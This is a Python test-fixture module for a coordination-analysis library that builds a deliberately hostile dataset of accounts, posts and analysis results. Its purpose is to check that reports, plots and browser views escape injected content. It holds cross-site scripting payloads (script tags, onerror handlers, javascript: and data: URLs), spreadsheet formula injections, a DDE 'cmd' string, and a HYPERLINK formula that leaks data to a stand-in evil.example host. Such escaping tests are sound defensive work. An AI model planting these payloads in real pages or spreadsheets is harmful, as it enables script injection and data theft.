"""A hostile little world shared by the report, plot, triage and browser tests.

Names, bios, posts and URLs carry script tags, event-handler attributes, ``javascript:``
links and spreadsheet formulas; the analysis results are built by hand so that every
output path has something hostile to escape. Not a test file: tests import from it.
"""

from __future__ import annotations

from types import SimpleNamespace

import pandas as pd

import netlib
from netlib.triage import triage

SCRIPT = ("<script>document.title='PWNED';"
          "document.documentElement.setAttribute('data-pwned','1')</script>")
IMG = "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','2')\">"
JS_LINK = "javascript:document.title='PWNED'"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
HANDLES = ["alice_ops", "bob_amplifier", "carol.news", "dave_old", "dave_old2", "erin_quiet"]


def hostile_dataset() -> netlib.Dataset:
    accounts = pd.DataFrame({
        "account_id": ["a1", "a2", "a3", "a4", "a5", "a6"],
        "platform": ["x", "x", "facebook", "x", "x", "telegram"],
        "handle": HANDLES,
        "display_name": [SCRIPT, FORMULA, "@SUM(1+1)", "Dave\x01\x02 Old", "-2+3",
                         "Erin Quiet"],
        "bio": [IMG, "+cmd|' /C calc'!A0", "fan of @alice_ops and Bob_Amplifier",
                "<b>bold</b> & more", "back again, formerly @dave_old", "\tindented"],
        "url": [JS_LINK, "https://example.org/bob", "http://x.com/carol.news", "", "",
                "data:text/html,<script>alert(1)</script>"],
        "created_at": ["2023-06-01", "2023-06-02", "2023-06-03", "2023-01-01",
                       "2024-01-06", "2023-02-01"],
        "status": ["active", "active", "active", "suspended", "active", "active"],
        "suspended_at": ["", "", "", "2024-01-05", "", ""],
    })
    rows = []
    base = pd.Timestamp("2024-01-01T10:00:00Z")
    for k, obj in enumerate(["o1", "o2", "o3", "o4"]):
        for j, acc in enumerate(["a1", "a2", "a3"]):
            rows.append({"action_id": f"r{k}{j}", "account_id": acc,
                         "timestamp": (base + pd.Timedelta(hours=5 * k, seconds=20 * j))
                         .isoformat(), "kind": "repost", "object_id": obj,
                         "text": f"{SCRIPT} {FORMULA} hi @dave_old", "urls": JS_LINK})
    rows.append({"action_id": "p1", "account_id": "a4", "timestamp": "2024-01-02T09:00:00Z",
                 "kind": "post", "object_id": "", "text": IMG, "urls": ""})
    rows.append({"action_id": "p2", "account_id": "a5", "timestamp": "2024-01-07T09:00:00Z",
                 "kind": "post", "object_id": "", "text": "-5", "urls": ""})
    rows.append({"action_id": "p3", "account_id": "a6", "timestamp": "2024-01-08T09:00:00Z",
                 "kind": "post", "object_id": "", "text": "hello", "urls": ""})
    return netlib.Dataset.from_frames(accounts, pd.DataFrame(rows),
                                      now=pd.Timestamp("2025-01-01", tz="UTC"))


def hostile_analysis(*, with_triage: bool = True) -> SimpleNamespace:
    """A stand-in Analysis with every result the report renders."""
    data = hostile_dataset()
    pairs = []
    for obj in ["o1", "o2", "o3", "o4"]:
        for a, b, lag in (("a1", "a2", 20), ("a1", "a3", 40), ("a2", "a3", 20)):
            pairs.append({"object_id": obj, "account_id": a, "account_id_y": b,
                          "content_id": f"r{obj[1:]}{a[1:]}", "content_id_y": f"r{obj[1:]}{b[1:]}",
                          "time_delta": lag, "trace": "repost"})
    coordination = SimpleNamespace(
        clusters=pd.DataFrame({"account_id": ["a1", "a2", "a3"], "cluster_id": [1, 1, 1]}),
        edges=pd.DataFrame({"account_id": ["a1", "a1", "a2"], "account_id_y": ["a2", "a3", "a3"],
                            "weight": [4.0, 4.0, 4.0], "p_value": [1e-4, 1e-4, 1e-4],
                            "q_value": [3e-4, 3e-4, 3e-4],
                            "evidence": [f"shared o1 {SCRIPT}", "x", FORMULA]}),
        pairs=pd.DataFrame(pairs),
        cluster_stats=pd.DataFrame({"cluster_id": [1], "n_accounts": [3]}),
        params={"window": 60})
    mirrors = SimpleNamespace(
        links=pd.DataFrame({"predecessor_id": ["a4"], "successor_id": ["a5"], "score": [0.91],
                            "handle_similarity": [0.95], "rank": [1],
                            "evidence": ["handle dave_old -> dave_old2 " + IMG]}),
        chains=pd.DataFrame({"chain_id": [1, 1], "position": [0, 1], "account_id": ["a4", "a5"]}),
        params={})
    hubs = SimpleNamespace(
        hubs=pd.DataFrame({"account_id": ["a1", "a2"], "hub_score": [0.9, 0.4], "rank": [1, 2],
                           "leadership": [0.8, 0.1]}),
        operator_groups=pd.DataFrame({"group_id": [1, 1], "account_id": ["a1", "a4"]}),
        timezones=pd.DataFrame({"cluster_id": [1], "utc_offset_hours": [5.0], "low": [4.0],
                                "high": [6.0], "pattern": ["evening peak"]}),
        params={})
    analysis = SimpleNamespace(dataset=data, coordination=coordination, mirrors=mirrors,
                               hubs=hubs, triage=None, params={"window": 60, "seed": 0},
                               provenance={"netlib": "test", "inputs": {"accounts.csv": "abc"}})
    if with_triage:
        watch = pd.DataFrame({"handle": ["@Alice_Ops", "dave_old", "dave_old2", "nobody_here",
                                         "", "erin_quiet"],
                              "platform": ["x", "", "", "x", "", ""],
                              "received_at": ["2024-02-01"] * 6,
                              "note": [SCRIPT, FORMULA, "", "never seen", "blank row", ""]})
        analysis.triage = triage(watch, analysis)
    return analysis


# --- real data: CooRTweet's reference output as the coordination result ----------------------
def coortweet_analysis(realdata) -> SimpleNamespace:
    """The Russian retweet data with CooRTweet's own groups/edges/components (window 60 s)."""
    folder = realdata / "coortweet"
    ref = folder / "reference_outputs"
    data = netlib.load(folder / "russian_coord_tweets.rda")
    vertices = pd.read_csv(ref / "coortweet_ref_vertices_tw60_mp2.csv", dtype={"account_id": str})
    edges = pd.read_csv(ref / "coortweet_ref_edges_tw60_mp2.csv", dtype={"from": str, "to": str})
    pairs = pd.read_csv(ref / "coortweet_ref_groups_tw60_mp2.csv",
                        dtype={c: str for c in ("object_id", "content_id", "content_id_y",
                                                "account_id", "account_id_y")})
    coordination = SimpleNamespace(
        clusters=vertices.rename(columns={"component": "cluster_id"})[["account_id", "cluster_id"]],
        edges=edges.rename(columns={"from": "account_id", "to": "account_id_y"}),
        pairs=pairs.assign(trace="repost"))
    return SimpleNamespace(dataset=data, coordination=coordination, mirrors=None, hubs=None,
                           triage=None, params={"window": 60, "min_participation": 2},
                           provenance={})
